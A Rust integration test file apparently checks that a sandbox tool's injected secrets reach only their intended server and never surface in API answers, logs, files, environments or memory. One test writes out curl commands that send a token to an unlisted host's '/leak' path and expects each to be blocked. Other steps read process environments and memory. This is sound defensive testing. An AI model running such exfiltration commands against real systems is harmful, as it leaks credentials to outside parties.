//! A planted key is searched everywhere: only the server it is for ever sees it.

use crate::search::{ArgvWatch, base64, holds, memory_holds, plant, search_files};
use crate::support::{LONG, Sandbox, alias, has_tools, http, is_root, show, world};
use anyhow::{Context as _, ensure};
use handler_testkit::{HttpOrigin, World};
use handler_types::egress::EgressDecision;

/// Every GET of the API that can be filled in, answered.
pub(crate) async fn all_answers(
    world: &World,
    sandbox: &str,
    process: u32,
) -> anyhow::Result<Vec<(String, String)>> {
    let port = world.port()?;
    let token = format!("Authorization: Bearer {}", world.token()?);
    let host = format!("Host: 127.0.0.1:{port}");
    let described = http(port, &["GET /openapi.json HTTP/1.1", &host], "").await?;
    let described: serde_json::Value = serde_json::from_str(&described.body)?;
    let paths = described["paths"].as_object().context("paths")?;
    let mut answers = Vec::new();
    for (path, methods) in paths {
        let is_stream = path.ends_with("/attach") || path.ends_with("/acp") || path == "/v1/events";
        if methods.get("get").is_none() || is_stream {
            continue;
        }
        let filled = path
            .replace("{process}", &process.to_string())
            .replace("{id}", sandbox)
            .replace("{name}", "planted")
            .replace("{path}", "tokens/planted");
        let query = if path.ends_with("/dir") || path.contains("/files") {
            "?path=/home/agent"
        } else {
            ""
        };
        let line = format!("GET {filled}{query} HTTP/1.1");
        let answer = http(port, &[&line, &host, &token], "").await?;
        answers.push((filled, format!("{} {}", answer.head, answer.body)));
    }
    Ok(answers)
}

/// A program inside that sent the secret, got it echoed, and goes on with all it has in memory; its number.
async fn keeper(
    sandbox: &Sandbox,
    value: &str,
    at: &HttpOrigin,
    other: &HttpOrigin,
) -> anyhow::Result<u32> {
    let program = format!(
        "import os,time,urllib.request as r\n\
         q=r.Request('http://{}/echo',data=os.environ['TOKEN'].encode(),headers={{'X-Key':os.environ['TOKEN']}})\n\
         kept=r.urlopen(q).read(); print('kept',len(kept),flush=True); time.sleep(600)",
        alias(at.port())
    );
    let process = sandbox
        .start(&format!("exec python3 -c \"{program}\""))
        .await?;
    sandbox
        .attach(process, None)
        .await?
        .until("kept 48\n")
        .await?;
    at.wait_for(LONG, |request| request.mentions(value)).await?;
    sandbox
        .sh(&format!(
            "curl -sS -d \"$TOKEN\" http://{}/",
            alias(other.port())
        ))
        .await?;
    Ok(process)
}

/// Looks into the environment of all processes of a world, and as root into the memory of the keeper.
async fn search_processes(
    world: &World,
    sandbox: &Sandbox,
    wanted: &[String],
) -> anyhow::Result<()> {
    let stand_in = [sandbox.out("printf %s \"$TOKEN\"").await?];
    let (mut environments, mut memories) = (0, 0);
    for member in world.processes() {
        let environ = std::fs::read(format!("/proc/{}/environ", member.pid)).unwrap_or_default();
        ensure!(!holds(&environ, wanted), "environment of {member:?}");
        environments += usize::from(holds(&environ, &stand_in));
        let limits = std::fs::read_to_string(format!("/proc/{}/limits", member.pid));
        let core = limits
            .iter()
            .flat_map(|text| text.lines())
            .find_map(|line| line.strip_prefix("Max core file size"));
        let core: Vec<&str> = core.unwrap_or("0 0").split_whitespace().take(2).collect();
        ensure!(core == ["0", "0"], "{member:?} may leave a core: {core:?}");
        let is_keeper = member
            .argv
            .iter()
            .any(|arg| arg.contains("time.sleep(600)"));
        if is_keeper && is_root() {
            ensure!(!memory_holds(member.pid, wanted)?, "memory of {member:?}");
            // The stand-in is there to be found.
            memories += usize::from(memory_holds(member.pid, &stand_in)?);
        }
    }
    ensure!(
        memories == 1 || !is_root(),
        "{memories} memories were searched"
    );
    ensure!(
        environments > 0 || !is_root(),
        "no environment inside was searched"
    );
    Ok(())
}

async fn keyed(
    world: &World,
    value: &str,
    at: &HttpOrigin,
    other: &HttpOrigin,
) -> anyhow::Result<Sandbox> {
    let input = format!("{value}\n");
    let set = world
        .cli_with_input(&["secret", "set", "tokens/planted"], input.as_bytes())
        .await?;
    ensure!(set.status.success(), "{set:?}");
    let grant = format!("TOKEN=tokens/planted@{}", alias(at.port()));
    let allow = alias(other.port());
    world
        .cli_ok(&[
            "sandbox",
            "up",
            "--no-folder",
            "--name",
            "keyed",
            "--secret",
            &grant,
            "--allow",
            &allow,
        ])
        .await?;
    Ok(Sandbox {
        client: world.client(),
        id: "keyed".into(),
    })
}

#[tokio::test]
async fn only_the_server_a_secret_is_for_receives_it_and_the_sandbox_never() -> anyhow::Result<()> {
    if !has_tools("only_the_server_a_secret_is_for_receives_it", &["curl"]) {
        return Ok(());
    }
    let world = world().await?;
    let (right, wrong) = (HttpOrigin::start().await?, HttpOrigin::start().await?);
    let (value, wanted) = plant();
    let sandbox = keyed(&world, &value, &right, &wrong).await?;
    let phantom = sandbox.out("printf %s \"$TOKEN\"").await?;
    assert_eq!(phantom.len(), value.len());
    assert_ne!(phantom, value);
    let base = format!("http://{}", alias(right.port()));

    sandbox
        .out(&format!(
            "curl -sSf -m 20 -H \"Authorization: Bearer $TOKEN\" {base}/header"
        ))
        .await?;
    let request = right
        .wait_for(LONG, |request| request.path == "/header")
        .await?;
    assert_eq!(
        request.headers["authorization"].to_str()?,
        format!("Bearer {value}")
    );

    sandbox
        .out(&format!("curl -sSf -m 20 -u \"me:$TOKEN\" {base}/basic"))
        .await?;
    let request = right
        .wait_for(LONG, |request| request.path == "/basic")
        .await?;
    let basic = format!("Basic {}", base64(format!("me:{value}").as_bytes()));
    assert_eq!(request.headers["authorization"].to_str()?, basic);

    let echoed = sandbox
        .out(&format!("curl -sSf -m 20 -d \"key=$TOKEN\" {base}/echo"))
        .await?;
    let request = right
        .wait_for(LONG, |request| request.path == "/echo")
        .await?;
    assert_eq!(
        show(&request.body),
        format!("key={value}"),
        "the body arrives with the value"
    );
    assert_eq!(
        echoed,
        format!("key={phantom}"),
        "the echo comes back with the stand-in"
    );
    assert!(
        !right
            .requests()
            .iter()
            .any(|request| request.mentions(&phantom))
    );

    for url in [alias(wrong.port()), "unlisted.example".into()] {
        for how in [
            "-H \"X-Key: $TOKEN\"",
            "-u \"me:$TOKEN\"",
            "-d \"$TOKEN\"",
            "-G -d \"q=$TOKEN\"",
        ] {
            let script = format!("curl -sS -m 20 {how} -w '\\n%{{http_code}}' http://{url}/leak");
            let answer = sandbox.out(&script).await?;
            assert!(answer.ends_with("403"), "{script}: {answer}");
        }
    }
    assert_eq!(wrong.requests().len(), 0, "{:?}", wrong.requests());
    let events = sandbox.client.sandbox_egress("keyed").await?;
    let of = |decision| {
        events
            .iter()
            .filter(|event| event.decision == decision)
            .collect::<Vec<_>>()
    };
    assert_eq!(of(EgressDecision::Leak).len(), 4, "{events:?}");
    let secret = of(EgressDecision::Leak)[0].secret.as_deref();
    assert_eq!(secret, Some("tokens/planted"));
    assert!(of(EgressDecision::Injected).len() >= 3, "{events:?}");
    assert!(!holds(serde_json::to_string(&events)?.as_bytes(), &wanted));
    Ok(())
}

#[tokio::test]
async fn a_secret_is_in_no_argument_environment_file_log_answer_or_memory_of_the_sandbox()
-> anyhow::Result<()> {
    if !has_tools(
        "a_secret_is_in_no_argument_environment_file_log",
        &["curl", "python3"],
    ) {
        return Ok(());
    }
    let mut world = world().await?;
    let (right, wrong) = (HttpOrigin::start().await?, HttpOrigin::start().await?);
    let (value, wanted) = plant();
    // Something that is an argument for a moment, so that not seeing the key means something.
    let decoy = format!("decoy-{}", handler_base::random::hex(8));
    let watch = ArgvWatch::start([&wanted[..], std::slice::from_ref(&decoy)].concat());
    let shown = tokio::process::Command::new("sh")
        .args(["-c", "sleep 0.3", &decoy])
        .status()
        .await?;
    assert!(shown.success());
    let sandbox = keyed(&world, &value, &right, &wrong).await?;
    let added = world
        .cli_with_input(
            &[
                "provider",
                "add",
                "planted",
                "--from",
                "anthropic",
                "--key-file",
                "-",
            ],
            value.as_bytes(),
        )
        .await?;
    assert!(added.status.success(), "{added:?}");
    let process = keeper(&sandbox, &value, &right, &wrong).await?;
    for (path, answer) in all_answers(&world, "keyed", process).await? {
        assert!(!holds(answer.as_bytes(), &wanted), "{path} answers with it");
    }
    for args in [
        &["--json", "secret", "list"][..],
        &["--json", "provider", "list"],
        &["--json", "sandbox", "list"],
        &["--json", "sandbox", "egress", "keyed"],
    ] {
        let told = world.cli_ok(args).await?;
        assert!(!holds(told.as_bytes(), &wanted), "{args:?}");
    }
    search_processes(&world, &sandbox, &wanted).await?;
    let (looks, seen) = watch.finish();
    assert!(
        looks > 10 && seen.iter().any(|argv| argv.contains(&decoy)),
        "{looks} looks: {seen:?}"
    );
    assert!(
        seen.iter().all(|argv| !holds(argv.as_bytes(), &wanted)),
        "{seen:?}"
    );
    // Also what is only written at the end, or by the next daemon.
    world.restart().await?;
    sandbox
        .out(&format!(
            "curl -sSf -H \"X-Key: $TOKEN\" http://{}/again",
            alias(right.port())
        ))
        .await?;
    right
        .wait_for(LONG, |request| {
            request.path == "/again" && request.mentions(&value)
        })
        .await?;
    world.stop_daemon().await?;
    // The search finds one that is there, deep in a file of another kind.
    let control = world.scratch().folder("cache").join("control");
    std::fs::write(&control, [&[0xff; 5000][..], value.as_bytes()].concat())?;
    let (mut found, mut read) = (Vec::new(), 0);
    search_files(world.scratch().path(), &wanted, &mut found, &mut read)?;
    assert_eq!(found, [control.display().to_string()]);
    assert!(read > 5, "only {read} files were looked at");
    let sealed = world.scratch().folder("data").join("secrets.json.sealed");
    assert!(std::fs::metadata(sealed)?.len() > 48, "it is kept, sealed");
    Ok(())
}

#[tokio::test]
async fn a_secret_that_is_missing_or_cannot_be_hidden_is_refused_before_anything_is_made()
-> anyhow::Result<()> {
    let world = world().await?;
    let up = |grant: &'static str| ["sandbox", "up", "--no-folder", "--secret", grant];
    let missing = world.cli(&up("TOKEN=tokens/none@example.com:443")).await?;
    assert_eq!(missing.status.code(), Some(3), "{missing:?}");
    let told = show(&missing.stderr);
    assert!(
        told.contains("tokens/none") && told.contains("handler secret set tokens/none"),
        "{told}"
    );
    let short = world
        .cli_with_input(&["secret", "set", "tokens/short"], b"abc")
        .await?;
    assert!(short.status.success(), "{short:?}");
    let refused = world.cli(&up("TOKEN=tokens/short@example.com:443")).await?;
    assert_eq!(refused.status.code(), Some(3), "{refused:?}");
    assert!(!show(&refused.stderr).contains("abc"));
    // Nothing takes a value as an argument.
    let typed = world
        .cli(&["secret", "set", "tokens/typed", "value"])
        .await?;
    assert_eq!(typed.status.code(), Some(2), "{typed:?}");
    assert_eq!(world.client().sandboxes("", 50).await?.items.len(), 0);
    assert!(world.leftovers().is_empty(), "{:?}", world.leftovers());
    Ok(())
}
